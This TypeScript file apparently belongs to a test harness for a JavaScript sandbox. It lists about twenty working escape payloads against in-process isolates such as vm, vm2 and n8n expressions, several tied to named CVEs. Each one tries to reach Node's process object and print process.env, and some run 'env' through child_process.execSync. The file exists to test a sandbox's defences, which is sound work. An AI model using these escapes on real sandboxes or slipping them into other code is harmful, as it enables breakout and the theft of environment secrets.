import { type Attack, anyOf, type Evidence, stoleSecret } from "../attack.ts";

/**
 * The program came to hold Node's own `process` where the isolate was to keep it away. A program that named Node's things outright
 * has them rightly, inside of the jail: there, only secrets count.
 */
const leavesIsolate: Evidence = anyOf(stoleSecret, (outcomes) =>
  outcomes.some(({ engine, stdout }) => engine !== "node" && /^ESCAPED\b/m.test(stdout)),
);

/** Spells what the choice of the engine looks for, so that the program is run by the isolate. */
const TELL = `const TELL = "const held = typeof process === 'object' && process; if (held && held.version) console.log('ESCAPED', JSON.stringify(held.env)); return held";\n`;

/** Escapes from in-process sandboxes of JavaScript, by what they get hold of: name, and the program. */
const ESCAPES: readonly (readonly [name: string, code: string])[] = [
  ["the constructor of its constructor (the first escape from vm)", `this.constructor.constructor(TELL)()`],
  ["the constructor of a function that the host lent: console.log", `console.log.constructor(TELL)()`],
  ["the constructor of a function that the host lent: setTimeout", `setTimeout.constructor(TELL)()`],
  [
    "the constructor of what a lent function returns",
    `structuredClone({}).constructor.constructor(TELL)(); setTimeout(() => {}, 1).constructor.constructor(TELL)()`,
  ],
  [
    "an error of the host (CVE-2023-30547, vm2)",
    `try { structuredClone(() => {}); } catch (error) { error.constructor.constructor(TELL)(); }
try { new TextDecoder("no such encoding"); } catch (error) { error.constructor.constructor(TELL)(); }`,
  ],
  [
    "an error that the host throws when the stack is full (vm2, GHSA-rjjc-cw3w-2m2c and others)",
    `const dig = () => { try { structuredClone([1]); dig(); } catch (error) { error.constructor.constructor(TELL)(); throw error; } };
try { dig(); } catch {}`,
  ],
  [
    "frames of the stack (CVE-2022-36067 and CVE-2023-29017, vm2: prepareStackTrace)",
    `Error["prepare" + "StackTrace"] = (_, sites) => sites;
const sites = new Error().stack;
for (const site of Array.isArray(sites) ? sites : []) {
  const held = [site.getThis?.(), site.getFunction?.()];
  for (const one of held) if (one) one.constructor.constructor(TELL)();
}
Error.constructor(TELL)();`,
  ],
  [
    "a promise of another kind (CVE-2023-37466, vm2: Symbol.species)",
    `const made = (async () => {})();
made.constructor = { [Symbol.species]: class { constructor(executor) { executor((value) => value?.constructor?.constructor(TELL)(), (error) => error?.constructor?.constructor(TELL)()); } } };
made.then(() => {});
(async () => {}).constructor(TELL)();`,
  ],
  [
    "a custom inspection (CVE-2023-37903, vm2)",
    `console.log({ [Symbol.for("nodejs.util.inspect.custom")]: (depth, options, inspect) => { (inspect ?? options).constructor.constructor(TELL)(); return ""; } });`,
  ],
  [
    "a proxy that is asked for its prototype (CVE-2023-32314, vm2)",
    `const trap = new Proxy({}, { getPrototypeOf(target) { target.constructor.constructor(TELL)(); return null; }, get(target, name, receiver) { receiver.constructor; return Reflect.get(target, name); } });
trap instanceof Object;
try { structuredClone(trap); } catch (error) { error.constructor.constructor(TELL)(); }`,
  ],
  [
    "whoever called it (arguments.callee.caller)",
    `(function look() {
  let place = arguments.callee;
  for (let depth = 0; place && depth < 20; depth++) {
    place.constructor(TELL)();
    try { place = place.caller; } catch { break; }
  }
})();`,
  ],
  [
    "what array methods are handed by the host (prototype interception)",
    `const real = Array.prototype.push;
Array.prototype.push = function (...values) { for (const value of values) value?.constructor?.constructor?.(TELL)(); return real.apply(this, values); };
console.log("%o", [1, { a: 1 }]); structuredClone([1]);
[].push(() => {});`,
  ],
  [
    "WebAssembly's own objects",
    `const wasm = globalThis["Web" + "Assembly"];
const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);
wasm.Module.constructor(TELL)();
new wasm.Instance(new wasm.Module(bytes)).exports;
wasm.instantiate(bytes).then(({ instance }) => instance.constructor.constructor(TELL)());`,
  ],
  [
    "a module that it imports without saying so",
    `const load = Function("name", "return import(name)");
load("node:process").then((found) => console.log("ESCAPED", JSON.stringify(found.env)), () => {});`,
  ],
  [
    "strict and sloppy functions, generators and the realm's intrinsics",
    `for (const kind of [function () {}, function* () {}, async () => {}, async function* () {}, class {}, Reflect.get, Intl.DateTimeFormat]) {
  const made = kind.constructor(TELL);
  try { const result = made(); result?.next?.(); } catch {}
}`,
  ],
  [
    "everything that can be reached from the global object, whether it belongs to the host",
    `const seen = new Set(), queue = [globalThis];
for (let count = 0; queue.length && count < 20000; count++) {
  const value = queue.pop();
  for (const key of Reflect.ownKeys(value)) {
    let inner;
    try { inner = value[key]; } catch { continue; }
    if ((typeof inner !== "object" && typeof inner !== "function") || inner === null || seen.has(inner)) continue;
    seen.add(inner); queue.push(inner);
    if (typeof inner === "function" && inner.name === "Function") inner(TELL)();
    if (typeof inner.applySync === "function" || typeof inner.createContextSync === "function") console.log("ESCAPED", String(key));
  }
}`,
  ],
  [
    "the expression of a workflow (CVE-2025-68613, n8n)",
    `console.log((function () { return this.process.mainModule.require("child_process").execSync("env").toString(); })())`,
  ],
  [
    "Node's inner bindings (vm2 and n8n, again and again)",
    `console.log(process.binding("spawn_sync") && process.env)`,
  ],
  [
    "another context of V8 (node:vm, said by its makers to be no boundary)",
    `console.log(require("vm").runInNewContext("this.constructor.constructor('return JSON.stringify(process.env)')()"))`,
  ],
];

const QUICK = /first escape|CVE-2023-30547/;

/** Out of the isolate. It is no boundary, the jail is; that it holds all the same is a line more to cross. */
export const ISOLATE: readonly Attack[] = ESCAPES.map(([name, code]) => ({
  name,
  language: "javascript",
  ...(QUICK.test(name) ? { quick: true } : {}),
  code: TELL + code,
  escaped: leavesIsolate,
}));
